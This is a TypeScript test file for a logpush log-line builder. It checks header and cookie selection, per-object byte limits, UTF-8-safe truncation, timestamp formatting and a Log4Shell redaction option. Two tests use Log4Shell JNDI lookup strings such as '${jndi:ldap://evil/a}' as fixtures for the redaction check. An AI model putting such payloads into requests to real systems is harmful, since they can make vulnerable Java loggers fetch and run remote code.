import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildLogLine, fillCustomObject, redactLog4Shell, utf8Length, utf8Prefix, type LogRequest } from '../../src/logpush/index.js';

const rule = (ap: Record<string, unknown>) => ({ action: 'log_custom_field', expression: 'true', action_parameters: ap });
const JOB = { dataset: 'http_requests', logpull_options: 'fields=RayID,EdgeResponseStatus,RequestHeaders,ResponseHeaders,Cookies,EdgeStartTimestamp&timestamps=rfc3339' };
const TS = 1700000000123456789n; // 2023-11-14T22:13:20.123456789Z
const request = (over: Partial<LogRequest> = {}): LogRequest => ({
  requestHeaders: [['Host', 'example.com'], ['X-Forwarded-For', '1.1.1.1'], ['x-forwarded-for', '2.2.2.2'], ['Cookie', 'session=abc; Theme=dark; session=zzz']],
  transformedRequestHeaders: [['host', 'rewritten.example'], ['x-forwarded-for', '9.9.9.9'], ['x-added', 'by-transform']],
  responseHeaders: [['Server', 'cloudflare'], ['Content-Type', 'text/html']],
  fields: { RayID: '8a1b2c3d4e5f6a7b', EdgeResponseStatus: 503, EdgeStartTimestamp: TS, ClientCountry: 'us' },
  ...over,
});

describe('buildLogLine', () => {
  it('logs lower-case names, first instances, original values, cookies as sent, fields in job order', () => {
    const r = buildLogLine(request(), rule({
      request_fields: [{ name: 'host' }, { name: 'x-forwarded-for' }, { name: 'x-added' }],
      response_fields: [{ name: 'server' }],
      cookie_fields: [{ name: 'session' }, { name: 'Theme' }, { name: 'theme' }],
    }), JOB);
    expect(r.diagnostics).toEqual([]);
    expect(r.sent).toBe(true);
    expect(r.line).toEqual({
      RayID: '8a1b2c3d4e5f6a7b',
      EdgeResponseStatus: 503,
      RequestHeaders: { host: 'example.com', 'x-forwarded-for': '1.1.1.1' },
      ResponseHeaders: { server: 'cloudflare' },
      Cookies: { session: 'abc', Theme: 'dark' },
      EdgeStartTimestamp: '2023-11-14T22:13:20Z',
    });
    expect(Object.keys(r.line!)).toEqual(['RayID', 'EdgeResponseStatus', 'RequestHeaders', 'ResponseHeaders', 'Cookies', 'EdgeStartTimestamp']);
    expect(r.transformedNotLogged.sort()).toEqual(['host', 'x-added', 'x-forwarded-for']);
    expect(r.truncations).toEqual([]);
  });
  it('includes the objects only when their names are in fields', () => {
    const r = buildLogLine(request(), rule({ request_fields: [{ name: 'host' }], cookie_fields: [{ name: 'session' }] }), { ...JOB, logpull_options: 'fields=RayID,Cookies' });
    expect(r.line).toEqual({ RayID: '8a1b2c3d4e5f6a7b', Cookies: { session: 'abc' } });
  });
  it('upper-case configured header names are logged in lower case (and reported)', () => {
    const r = buildLogLine(request(), rule({ request_fields: [{ name: 'X-Forwarded-For' }] }), JOB);
    expect(r.line!['RequestHeaders']).toEqual({ 'x-forwarded-for': '1.1.1.1' });
    expect(r.diagnostics.map((d) => d.code)).toEqual(['custom-field-uppercase-header']);
  });
  it('the job filter decides whether the line is sent (on raw values, before timestamps are formatted)', () => {
    const f = (filter: string) => buildLogLine(request(), undefined, { ...JOB, filter }).sent;
    expect(f('{"where":{"key":"EdgeResponseStatus","operator":"geq","value":500}}')).toBe(true);
    expect(f('{"where":{"key":"EdgeResponseStatus","operator":"lt","value":500}}')).toBe(false);
    expect(f('{"where":{"key":"ClientCountry","operator":"eq","value":"us"}}')).toBe(true); // not in fields, still filterable
    expect(f(`{"where":{"key":"EdgeStartTimestamp","operator":"geq","value":${Number(TS - 10n ** 12n)}}}`)).toBe(true);
    const bad = buildLogLine(request(), undefined, { ...JOB, filter: '{"where":{"key":"Nope","operator":"eq","value":1}}' });
    expect([bad.sent, bad.diagnostics[0]!.code, bad.diagnostics[0]!.pointer]).toEqual([false, 'filter-unknown-field', '/filter']);
  });
  it('formats timestamps: unixnano exact in the text, unix seconds, rfc3339', () => {
    const ts = (t: string) => buildLogLine(request(), undefined, { ...JOB, logpull_options: `fields=EdgeStartTimestamp&timestamps=${t}` });
    const nano = ts('unixnano');
    expect(nano.text).toBe('{"EdgeStartTimestamp":1700000000123456789}');
    // A value that looks like a placeholder stays a string.
    const odd = buildLogLine(request({ fields: { RayID: '\u0000bigint0\u0000', EdgeStartTimestamp: TS } }), undefined, { ...JOB, logpull_options: 'fields=RayID,EdgeStartTimestamp&timestamps=unixnano' });
    expect(JSON.parse(odd.text!.replace(/:(\d{17,})/, ':"$1"'))).toEqual({ RayID: '\u0000bigint0\u0000', EdgeStartTimestamp: '1700000000123456789' });
    expect(ts('unix').line).toEqual({ EdgeStartTimestamp: 1700000000 });
    expect(ts('rfc3339').line).toEqual({ EdgeStartTimestamp: '2023-11-14T22:13:20Z' });
    const iso = buildLogLine(request({ fields: { EdgeStartTimestamp: '2023-11-14T22:13:20.5Z' } }), undefined, { ...JOB, logpull_options: 'fields=EdgeStartTimestamp&timestamps=unixnano' });
    expect(iso.text).toBe('{"EdgeStartTimestamp":1700000000500000000}');
  });

  describe('8 KB per object', () => {
    const headers = (vals: string[]): LogRequest => request({ requestHeaders: vals.map((v, i) => [`h${i}`, v] as const) });
    const cfg = (n: number) => rule({ request_fields: Array.from({ length: n }, (_, i) => ({ name: `h${i}` })) });
    it('exactly 8192 bytes is kept whole; a later value is dropped and reported', () => {
      const r = buildLogLine(headers(['a'.repeat(4096), 'b'.repeat(4096)]), cfg(2), JOB);
      expect(r.truncations).toEqual([]);
      expect(Object.values(r.line!['RequestHeaders'] as object).join('').length).toBe(8192);
      const s = buildLogLine(headers(['a'.repeat(4096), 'b'.repeat(4096), 'c']), cfg(3), JOB);
      expect(s.truncations).toEqual([{ object: 'RequestHeaders', limit: 8192, bytes: 8193, cut: { name: 'h2', keptBytes: 0, originalBytes: 1 }, dropped: [] }]);
      expect(s.line!['RequestHeaders']).not.toHaveProperty('h2');
      expect(s.diagnostics.map((d) => d.code)).toEqual(['log-line-truncated']);
    });
    it('cuts the crossing value at a UTF-8 character boundary and drops later values', () => {
      // 8191 ASCII bytes, then "é" (2 bytes) cannot fit in the 1 byte left.
      const r = buildLogLine(headers(['a'.repeat(8190), 'xé€', 'later']), cfg(3), JOB);
      const obj = r.line!['RequestHeaders'] as Record<string, string>;
      expect(obj['h1']).toBe('x');
      expect(utf8Length(Object.values(obj).join(''))).toBe(8191);
      expect(obj).not.toHaveProperty('h2');
      expect(r.truncations[0]).toEqual({ object: 'RequestHeaders', limit: 8192, bytes: 8190 + 6 + 5, cut: { name: 'h1', keptBytes: 1, originalBytes: 6 }, dropped: ['h2'] });
      // An astral character (4 bytes) is never split.
      const e = buildLogLine(headers(['a'.repeat(8190), '😀']), cfg(2), JOB);
      expect(e.line!['RequestHeaders']).toEqual({ h0: 'a'.repeat(8190) });
    });
    it('counts in configured order, not header order', () => {
      const req = request({ requestHeaders: [['a', 'x'.repeat(8000)], ['b', 'y'.repeat(500)]] });
      const r = buildLogLine(req, rule({ request_fields: [{ name: 'b' }, { name: 'a' }] }), JOB);
      const obj = r.line!['RequestHeaders'] as Record<string, string>;
      expect(obj['b']).toHaveLength(500);
      expect(obj['a']).toHaveLength(7692);
    });
    it('40 configured fields build; 41 are rejected naming the limit', () => {
      const vals = Array.from({ length: 41 }, (_, i) => `v${i}`);
      const ok = buildLogLine(headers(vals), cfg(40), JOB);
      expect(Object.keys(ok.line!['RequestHeaders'] as object)).toHaveLength(40);
      const over = buildLogLine(headers(vals), cfg(41), JOB);
      expect(over.line).toBeUndefined();
      expect(over.diagnostics.map((d) => [d.code, d.data])).toEqual([['custom-field-limit', { limit: 40, measured: 41 }]]);
    });
  });
  it('CVE-2021-44228=true turns every ${ into x{', () => {
    const req = request({ requestHeaders: [['user-agent', '${jndi:ldap://evil/a}']], fields: { RayID: 'a${b' } });
    const job = { ...JOB, logpull_options: 'fields=RayID,RequestHeaders&CVE-2021-44228=true' };
    const r = buildLogLine(req, rule({ request_fields: [{ name: 'user-agent' }] }), job);
    expect(r.line).toEqual({ RayID: 'ax{b', RequestHeaders: { 'user-agent': 'x{jndi:ldap://evil/a}' } });
    expect(r.text).not.toContain('${');
    const off = buildLogLine(req, rule({ request_fields: [{ name: 'user-agent' }] }), { ...job, logpull_options: 'fields=RayID' });
    expect(off.line).toEqual({ RayID: 'a${b' });
  });
  it('reads output_options when there is no logpull_options', () => {
    const r = buildLogLine(request(), rule({ cookie_fields: [{ name: 'Theme' }] }), { dataset: 'http_requests', output_options: { field_names: ['Cookies', 'EdgeStartTimestamp'], timestamp_format: 'unix' } });
    expect(r.line).toEqual({ Cookies: { Theme: 'dark' }, EdgeStartTimestamp: 1700000000 });
  });
  it('utf8Prefix never splits a character', () => {
    expect(utf8Prefix('aé', 2)).toBe('a');
    expect(utf8Prefix('a😀', 4)).toBe('a');
    expect(utf8Prefix('a😀', 5)).toBe('a😀');
    expect(utf8Prefix('€€', 5)).toBe('€');
  });
  it('never throws on junk', () => {
    for (const junk of [null, 5, 'x', [], { requestHeaders: 'x', fields: 5 }, { requestHeaders: [[1, 2], null, ['a']] }]) {
      expect(() => buildLogLine(junk as never, rule({ request_fields: [{ name: 'a' }] }), JOB)).not.toThrow();
      expect(() => buildLogLine(request(), junk, junk as never)).not.toThrow();
    }
  });
});

describe('fillCustomObject against the byte budget rule, bytes counted by TextEncoder', () => {
  // logpush.md: values in configured order up to the budget; the crossing value cut at a character
  // boundary (the longest prefix that fits), the later ones dropped; header names compared lower-cased.
  const enc = new TextEncoder();
  const bytes = (s: string) => enc.encode(s).length;
  const name = fc.constantFrom('a', 'b', 'c', 'd', 'X-Y', 'x-y', 'e');
  const value = fc.oneof(fc.string({ maxLength: 12 }), fc.string({ unit: 'grapheme', maxLength: 6 }), fc.string({ unit: 'binary', maxLength: 6 }));
  it('keeps whole values while they fit, cuts the crossing one, drops the rest, and reports it', () => {
    fc.assert(
      fc.property(fc.array(name, { maxLength: 8 }), fc.dictionary(name, value), fc.boolean(), fc.integer({ min: 0, max: 40 }), (names, dict, header, limit) => {
        const values = new Map(Object.entries(dict).map(([k, v]) => [header ? k.toLowerCase() : k, v]));
        const { value: got, truncation } = fillCustomObject('RequestHeaders', names, values, header, limit);
        // The model.
        const want: Record<string, string> = {};
        const dropped: string[] = [];
        let used = 0;
        let total = 0;
        let cut: { name: string; keptBytes: number; originalBytes: number } | undefined;
        const seen = new Set<string>();
        for (const n of names) {
          const key = header ? n.toLowerCase() : n;
          if (seen.has(key)) continue;
          seen.add(key);
          const v = values.get(key);
          if (v === undefined) continue;
          total += bytes(v);
          if (cut) dropped.push(key);
          else if (used + bytes(v) <= limit) {
            want[key] = v;
            used += bytes(v);
          } else {
            // The longest prefix of whole code points (a lone surrogate is one, written as U+FFFD) that fits.
            let kept = '';
            for (const ch of v) {
              if (used + bytes(kept + ch) > limit) break;
              kept += ch;
            }
            if (kept.length > 0) want[key] = kept;
            cut = { name: key, keptBytes: bytes(kept), originalBytes: bytes(v) };
          }
        }
        expect(got).toEqual(want);
        expect(Object.keys(got)).toEqual(Object.keys(want));
        expect(Object.values(got).reduce((a, v) => a + bytes(v), 0)).toBeLessThanOrEqual(limit);
        if (!cut && dropped.length === 0) expect(truncation).toBeUndefined();
        else expect(truncation).toEqual({ object: 'RequestHeaders', limit, bytes: total, dropped, ...(cut ? { cut } : {}) });
      }),
      { numRuns: 2000 },
    );
  });
});

describe('redactLog4Shell', () => {
  it('turns every ${ into x{ in strings, array elements, and the keys and values of objects', () => {
    const o: Record<string, unknown> = {
      a: '${jndi:ldap://x}${a}$${',
      b: ['${x}', 5, 'ok'],
      c: { '${k}': '${v}', plain: 'p', n: 1 },
      d: 7,
      e: null,
      f: 'no lookup $ { here',
    };
    redactLog4Shell(o);
    expect(o).toEqual({
      a: 'x{jndi:ldap://x}x{a}$x{',
      b: ['x{x}', 5, 'ok'],
      c: { 'x{k}': 'x{v}', plain: 'p', n: 1 },
      d: 7,
      e: null,
      f: 'no lookup $ { here',
    });
  });
});
